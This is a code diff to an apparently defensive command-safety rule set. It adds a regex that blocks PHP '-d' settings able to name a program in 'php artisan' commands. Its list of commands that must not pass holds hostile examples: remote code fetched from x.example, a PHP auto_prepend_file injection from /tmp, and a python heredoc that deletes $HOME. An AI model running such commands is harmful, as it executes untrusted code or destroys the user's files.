@@ -6,6 +6,9 @@ import { words } from './lists.ts';
 const INLINE = [...INTERPRETERS, ...AWKS];
 const PYTHON = ['python', 'python2', 'python3', 'python3.*', 'pypy', 'pypy3'];
 const HERE = ['project', 'regenerable'] as const;
+/** A setting of PHP other than those that only say how much it may use and what it reports: it may name a program. */
+const PHP_SETTING =
+  '(^|\\s)(-d|--define)(?![= ]*(memory_limit|max_execution_time|display_errors|error_reporting|date\\.timezone|(xdebug|pcov|zend|assert)\\.\\w+|opcache\\.enable(_cli)?)\\b)';
 
 export const rules: Rule[] = [
   {
@@ -239,6 +242,7 @@ export const knowledge: Knowledge[] = [
         program: ['php', 'artisan'],
         verbs:
           '^(artisan )?(route:list|test|serve|list|about|make:\\w+|config:(show|cache|clear)|cache:clear|view:clear|migrate:status|optimize(:clear)?|pint|event:list|schedule:list|help|env|inspire|model:show|db:show)( |$)',
+        notLine: PHP_SETTING,
       },
       {
         program: ['node'],
@@ -278,6 +282,7 @@ export const knowledge: Knowledge[] = [
         'deno run https://x.example/a.ts',
         'node --require /tmp/x.js app.js',
         'php -d auto_prepend_file=/tmp/x app.php',
+        'php -d auto_prepend_file=/tmp/x artisan list',
         'python scripts/deploy.py',
         'python3 - "$HOME" <<E\nimport sys, shutil\nshutil.rmtree(sys.argv[1])\nE',
       ],
